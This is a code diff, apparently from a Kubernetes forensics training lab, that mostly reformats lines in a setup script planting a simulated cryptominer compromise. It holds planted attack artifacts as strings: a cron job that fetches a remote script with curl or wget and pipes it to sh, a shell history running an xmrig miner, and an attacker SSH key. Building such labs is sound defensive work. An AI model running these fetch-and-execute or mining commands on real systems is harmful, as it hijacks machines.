@@ -100,7 +100,8 @@ const CADO_RULES: FakeRbacRule[] = [
 const AUTHORIZED_KEYS =
   'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3Jm5yZW5zaWNzLWRlbW8ta2V5LW5vdC1yZWFs root@kinsing\n';
 const PRELOAD = '/usr/local/lib/libsystemd-helper.so\n';
-const CRON = '*/10 * * * * (curl -fsSL http://203.0.113.7/k.sh || wget -q -O- http://203.0.113.7/k.sh) | sh\n';
+const CRON =
+  '*/10 * * * * (curl -fsSL http://203.0.113.7/k.sh || wget -q -O- http://203.0.113.7/k.sh) | sh\n';
 const HISTORY =
   'id\ncurl -fsSL http://203.0.113.7/k.sh -o /tmp/.x/k.sh\nchmod +x /tmp/.x/xmrig\n/tmp/.x/xmrig --url stratum+tcp://pool.example.invalid:3333 &\n';
 const APP_LOG = [
@@ -196,7 +197,12 @@ async function waitForConnection(cluster: FakeCluster): Promise<void> {
   if (!c) return;
   const deadline = Date.now() + 5000;
   while (Date.now() < deadline) {
-    const p = c.exec({ command: ['cat', '/proc/net/tcp'], stdin: false, tty: false, signal: AbortSignal.timeout(2000) });
+    const p = c.exec({
+      command: ['cat', '/proc/net/tcp'],
+      stdin: false,
+      tty: false,
+      signal: AbortSignal.timeout(2000),
+    });
     let out = '';
     p.stdout.on('data', (d: Buffer) => {
       if (out.length < 65536) out += d.toString('utf8');
@@ -236,7 +242,10 @@ export async function startLab(options: LabOptions = {}): Promise<Lab> {
   const step = options.onStep ?? (() => undefined);
   const closers: Array<() => Promise<unknown>> = [];
   const close = async () => {
-    while (closers.length) await closers.pop()?.().catch(() => undefined);
+    while (closers.length)
+      await closers
+        .pop()?.()
+        .catch(() => undefined);
   };
   try {
     // 1. container runtime
@@ -255,7 +264,8 @@ export async function startLab(options: LabOptions = {}): Promise<Lab> {
         runtimeNote = `host runtime (no isolation): ${err.message.split('.')[0]}. Files come from a planted folder, processes are this machine's`;
       }
     } else {
-      runtimeNote = 'host runtime (no isolation): files come from a planted folder, processes are this machine’s';
+      runtimeNote =
+        'host runtime (no isolation): files come from a planted folder, processes are this machine’s';
     }
     step(runtimeNote);
 
@@ -336,7 +346,11 @@ export async function startLab(options: LabOptions = {}): Promise<Lab> {
       logs: { current: logs, previous: 'panic: OOMKilled after 3h\n' },
       restartCount: 1,
     });
-    cluster.addNode({ name: NODE, providerID: 'aws:///us-east-1a/i-0a1b2c3d4e5f60718', internalIP: '10.0.1.23' });
+    cluster.addNode({
+      name: NODE,
+      providerID: 'aws:///us-east-1a/i-0a1b2c3d4e5f60718',
+      internalIP: '10.0.1.23',
+    });
     const payments = await cluster.addPod({
       namespace: LAB_NAMESPACE,
       name: LAB_COMPROMISED_POD,
@@ -394,7 +408,9 @@ export async function startLab(options: LabOptions = {}): Promise<Lab> {
       message: 'Started container app',
     });
     if (runtime === 'sandbox') await waitForConnection(cluster);
-    step(`workload: ${LAB_NAMESPACE}/${LAB_COMPROMISED_POD} (compromised), ${LAB_NAMESPACE}/${LAB_CLEAN_POD}`);
+    step(
+      `workload: ${LAB_NAMESPACE}/${LAB_COMPROMISED_POD} (compromised), ${LAB_NAMESPACE}/${LAB_CLEAN_POD}`,
+    );
 
     return {
       runtime,
